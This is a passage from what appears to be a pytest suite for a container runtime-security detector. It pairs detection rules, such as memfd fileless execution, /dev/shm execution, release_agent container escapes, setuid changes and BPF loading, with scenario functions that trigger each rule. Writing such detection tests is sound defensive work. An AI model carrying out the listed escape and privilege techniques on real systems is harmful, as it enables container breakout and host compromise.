    "Fileless execution via memfd_create": ("memfd_exec", s_memfd_exec),
    "Execution from /dev/shm": ("exec_dev_shm", s_exec_dev_shm),
    "Drop and execute new binary in container": ("drop_and_execute", s_drop_and_execute),
    "Detect release_agent File Container Escapes": ("release_agent", s_release_agent),
    "Set Setuid or Setgid bit": ("setuid_bit", s_setuid_bit),
    "Change namespace privileges via unshare": ("unshare", s_unshare),
    "BPF program loaded by non-root-owned or container process": ("bpf_prog_load", s_bpf),
}


def test_every_default_rule_has_a_scenario():
    assert len(RULESET) == 24, sorted(RULESET)
    assert set(SCENARIOS) == set(RULESET), (
        "rules without a scenario: %s; scenarios without a rule: %s"
        % (sorted(set(RULESET) - set(SCENARIOS)), sorted(set(SCENARIOS) - set(RULESET))))
    for rule, (priority, tags) in RULESET.items():
        assert priority and tags, "could not read priority/tags of %r" % rule


@pytest.mark.parametrize("rule", list(SCENARIOS), ids=[v[0] for v in SCENARIOS.values()])
def test_rule(rule, env):
    SCENARIOS[rule][1](env)
